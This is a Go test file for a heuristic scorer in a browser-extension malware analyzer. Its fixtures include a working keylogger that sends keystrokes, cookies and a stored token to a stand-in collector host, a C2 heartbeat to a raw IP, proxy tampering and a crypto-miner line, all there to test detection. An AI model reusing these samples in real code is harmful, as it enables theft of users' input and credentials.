package heuristic

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/extension-analysis/extension-analysis-go/internal/analysis"
	"github.com/extension-analysis/extension-analysis-go/internal/crx"
	"github.com/extension-analysis/extension-analysis-go/internal/manifest"
	"github.com/extension-analysis/extension-analysis-go/internal/network"
	"github.com/extension-analysis/extension-analysis-go/internal/obfuscation"
	"github.com/extension-analysis/extension-analysis-go/internal/staticanalysis"
)

const keyloggerScript = `var buffer = '';
document.addEventListener('keydown', function (e) {
  buffer += e.key;
});
setInterval(function () {
  fetch('https://collector.example.net/api', {
    method: 'POST',
    body: JSON.stringify({ keys: buffer, cookies: document.cookie, token: localStorage.getItem('token') })
  });
}, 5000);
`

func scriptInputs(t *testing.T, text string) Inputs {
	t.Helper()
	st, err := staticanalysis.NewAnalyzer().Analyze(text)
	require.NoError(t, err)
	ob, err := obfuscation.NewDetector().Detect(text)
	require.NoError(t, err)
	nw, err := network.NewAnalyzer().Analyze(text)
	require.NoError(t, err)
	return Inputs{Static: st, Obfuscation: ob, Network: nw}
}

func manifestInputs(t *testing.T, doc string) Inputs {
	t.Helper()
	res, err := manifest.NewAnalyzer().AnalyzeBytes([]byte(doc))
	require.NoError(t, err)
	return Inputs{Manifest: res}
}

func TestAnalyze_Empty(t *testing.T) {
	res := NewAnalyzer().Analyze(Inputs{})
	assert.Equal(t, 0, res.HeuristicScore)
	assert.NotNil(t, res.DetectedHeuristics)
	assert.Empty(t, res.DetectedHeuristics)
	assert.Equal(t, TableVersion, res.TableVersion)
}

func TestBuiltinTable(t *testing.T) {
	table := BuiltinTable()
	assert.GreaterOrEqual(t, len(table.Indicators), 30)

	ids := make(map[string]bool)
	for _, ind := range table.Indicators {
		assert.False(t, ids[ind.ID], "duplicate indicator %s", ind.ID)
		ids[ind.ID] = true
		assert.GreaterOrEqual(t, ind.Weight, 5, ind.ID)
		assert.LessOrEqual(t, ind.Weight, 40, ind.ID)
		assert.NotNil(t, ind.Trigger, ind.ID)
		assert.NotEmpty(t, ind.Description, ind.ID)
	}
}

// TestAnalyze_NilInputsNeverPanic 任意组合的缺失输入都不应触发指标或崩溃
func TestAnalyze_NilInputsNeverPanic(t *testing.T) {
	for _, ind := range BuiltinTable().Indicators {
		assert.NotPanics(t, func() {
			assert.Equal(t, 0, ind.Trigger(&Inputs{}), ind.ID)
		}, ind.ID)
	}
}

func TestAnalyze_KeyloggerScript(t *testing.T) {
	res := NewAnalyzer().Analyze(scriptInputs(t, keyloggerScript))

	assert.GreaterOrEqual(t, res.HeuristicScore, 40)
	assert.True(t, res.Has("input_capture"))
	assert.True(t, res.Has("keylogger_exfiltration"))
	assert.True(t, res.Has("exfiltration_behavior"))
	assert.True(t, res.Has("periodic_state_beacon"))
	assert.False(t, res.Has("heavy_obfuscation"))
	assert.Equal(t, 100, res.HeuristicScore)
	assert.Greater(t, res.RawScore, 100)
}

func TestAnalyze_BroadEarlyInjection(t *testing.T) {
	in := manifestInputs(t, `{
		"manifest_version": 2,
		"permissions": ["tabs", "cookies", "<all-urls>", "webRequest"],
		"content_scripts": [{"matches": ["<all_urls>"], "run_at": "document_start", "js": ["c.js"]}],
		"content_security_policy": "script-src 'self' 'unsafe-eval'; object-src 'self'",
		"background": {"scripts": ["bg.js"], "persistent": true}
	}`)
	res := NewAnalyzer().Analyze(in)

	assert.True(t, res.Has("broad_early_injection"))
	assert.True(t, res.Has("broad_hosts_request_interception"))
	assert.False(t, res.Has("unsafe_eval_dynamic_code"), "no script evidence")
	assert.Equal(t, 55, res.HeuristicScore)
	assert.Equal(t, "broad_early_injection", res.DetectedHeuristics[0].ID)
}

func TestAnalyze_BroadOrEarlyAloneIsWeaker(t *testing.T) {
	broadOnly := manifestInputs(t, `{"content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}`)
	earlyOnly := manifestInputs(t, `{"content_scripts": [{"matches": ["https://example.com/*"], "run_at": "document_start", "js": ["c.js"]}]}`)
	both := manifestInputs(t, `{"content_scripts": [{"matches": ["<all_urls>"], "run_at": "document_start", "js": ["c.js"]}]}`)

	a := NewAnalyzer()
	assert.Equal(t, 0, a.Analyze(broadOnly).HeuristicScore)
	assert.Equal(t, 0, a.Analyze(earlyOnly).HeuristicScore)
	assert.Equal(t, 35, a.Analyze(both).HeuristicScore)
}

func TestAnalyze_CleanManifest(t *testing.T) {
	in := manifestInputs(t, `{
		"manifest_version": 3,
		"permissions": ["storage", "activeTab"],
		"content_scripts": [{"matches": ["https://example.com/*"], "js": ["c.js"]}]
	}`)
	res := NewAnalyzer().Analyze(in)
	assert.Equal(t, 0, res.HeuristicScore)
}

func TestAnalyze_InvalidManifest(t *testing.T) {
	res := NewAnalyzer().Analyze(Inputs{Manifest: manifest.InvalidResult(nil)})
	assert.True(t, res.Has("invalid_manifest"))
	assert.Equal(t, 20, res.HeuristicScore)
}

func TestAnalyze_WeightTimesCount(t *testing.T) {
	text := strings.Repeat("document.onkeydown = function (e) { log(e); };\n", 3)
	res := NewAnalyzer().Analyze(scriptInputs(t, text))

	var got *Detection
	for i := range res.DetectedHeuristics {
		if res.DetectedHeuristics[i].ID == "input_capture" {
			got = &res.DetectedHeuristics[i]
		}
	}
	require.NotNil(t, got)
	assert.Equal(t, 3, got.Count)
	assert.Equal(t, 60, got.Score)
}

func TestAnalyze_PackageIndicators(t *testing.T) {
	pkg := &crx.Result{
		MalwareFindings: []analysis.Finding{
			{Category: staticanalysis.CategoryAdvancedMalware, Description: "crypto-mining marker"},
			{Category: staticanalysis.CategoryAdvancedMalware, Description: "debugger statement"},
		},
	}
	res := NewAnalyzer().Analyze(Inputs{Package: pkg})
	assert.True(t, res.Has("archive_advanced_malware"))
	assert.True(t, res.Has("manifest_only_degraded"))
	assert.Equal(t, 80, res.HeuristicScore) // 35×2 + 10
}

func detection(res *Result, id string) *Detection {
	for i := range res.DetectedHeuristics {
		if res.DetectedHeuristics[i].ID == id {
			return &res.DetectedHeuristics[i]
		}
	}
	return nil
}

// TestAnalyze_MalwareMarkersCountedOnce 安装包脚本并入静态分析后，恶意标记只按静态结果计一次
func TestAnalyze_MalwareMarkersCountedOnce(t *testing.T) {
	src := `var m = new CoinHive.Anonymous("k"); m.start(); debugger;`
	bundle := analysis.ScriptBundle{{Name: "m.js", Text: src}}
	st, err := staticanalysis.NewAnalyzer().AnalyzeBundle(bundle)
	require.NoError(t, err)
	pkg := &crx.Result{
		Scripts:         bundle,
		MalwareFindings: staticanalysis.ScanMalwareMarkers("m.js", src),
	}
	require.NotEmpty(t, pkg.MalwareFindings)

	in := Inputs{Static: st, Package: pkg}
	assert.Equal(t, st.Count(staticanalysis.CategoryAdvancedMalware), in.MalwareMarkers())

	res := NewAnalyzer().Analyze(in)
	assert.False(t, res.Has("archive_advanced_malware"))
	got := detection(res, "script_advanced_malware")
	require.NotNil(t, got)
	assert.Equal(t, st.Count(staticanalysis.CategoryAdvancedMalware), got.Count)
	assert.Equal(t, 25*got.Count, got.Score)
}

func TestAnalyze_PackageMarkersWhenStaticFailed(t *testing.T) {
	pkg := &crx.Result{
		MalwareFindings: []analysis.Finding{
			{Category: staticanalysis.CategoryAdvancedMalware, Description: "debugger statement"},
		},
	}
	failed := &staticanalysis.Result{Error: "script bundle too large"}
	in := Inputs{Static: failed, Package: pkg}
	assert.False(t, in.StaticCovered())
	assert.Equal(t, 1, in.MalwareMarkers())

	res := NewAnalyzer().Analyze(in)
	assert.True(t, res.Has("archive_advanced_malware"))
	assert.False(t, res.Has("script_advanced_malware"))
}

// TestAnalyze_UnparseableScriptsCapped 解析失败的脚本再多也只计一次
func TestAnalyze_UnparseableScriptsCapped(t *testing.T) {
	bundle := analysis.ScriptBundle{}
	for i := 0; i < 20; i++ {
		bundle = append(bundle, analysis.Script{Name: fmt.Sprintf("broken%d.js", i), Text: "var a = ) }}}"})
	}
	st, err := staticanalysis.NewAnalyzer().AnalyzeBundle(bundle)
	require.NoError(t, err)
	require.Len(t, st.ParseErrors, 20)

	res := NewAnalyzer().Analyze(Inputs{Static: st})
	got := detection(res, "unparseable_scripts")
	require.NotNil(t, got)
	assert.Equal(t, 1, got.Count)
	assert.Equal(t, 5, got.Score)
}

// TestAnalyze_ModernScriptsNotUnparseable ES2015 之后的语法不算解析失败
func TestAnalyze_ModernScriptsNotUnparseable(t *testing.T) {
	bundle := analysis.ScriptBundle{}
	for i := 0; i < 20; i++ {
		bundle = append(bundle, analysis.Script{
			Name: fmt.Sprintf("mod%d.js", i),
			Text: "const f = async ({a, ...b}) => `${a}`; class C extends Array { get n() { return 1; } }",
		})
	}
	st, err := staticanalysis.NewAnalyzer().AnalyzeBundle(bundle)
	require.NoError(t, err)
	assert.Empty(t, st.ParseErrors)

	res := NewAnalyzer().Analyze(Inputs{Static: st})
	assert.False(t, res.Has("unparseable_scripts"))
}

func TestAnalyze_C2AndEvasion(t *testing.T) {
	text := `setInterval(function () { fetch('http://198.51.100.7:4444/heartbeat'); }, 60000);
chrome.proxy.settings.set({value: {mode: 'pac_script'}});`
	in := scriptInputs(t, text)
	in.Manifest = manifestInputs(t, `{"permissions": ["proxy"]}`).Manifest

	res := NewAnalyzer().Analyze(in)
	assert.True(t, res.Has("c2_behavior"))
	assert.True(t, res.Has("proxy_evasion"))
	assert.True(t, res.Has("proxy_control_evasion"))
	assert.True(t, res.Has("direct_ip_or_anonymity_endpoint"))
	assert.Equal(t, 100, res.HeuristicScore)
}

func TestAnalyze_CustomTable(t *testing.T) {
	table := Table{
		Version: "test",
		Indicators: []Indicator{
			{ID: "always", Weight: 7, Trigger: func(*Inputs) int { return 2 }},
			{ID: "never", Weight: 40, Trigger: func(*Inputs) int { return 0 }},
			{ID: "negative", Weight: 40, Trigger: func(*Inputs) int { return -3 }},
			{ID: "no-trigger", Weight: 40},
		},
	}
	res := NewAnalyzerWithTable(table).Analyze(Inputs{})
	require.Len(t, res.DetectedHeuristics, 1)
	assert.Equal(t, 14, res.HeuristicScore)
	assert.Equal(t, "test", res.TableVersion)
}

func TestAnalyze_Idempotent(t *testing.T) {
	in := scriptInputs(t, keyloggerScript)
	a := NewAnalyzer()
	assert.Equal(t, a.Analyze(in), a.Analyze(in))
}
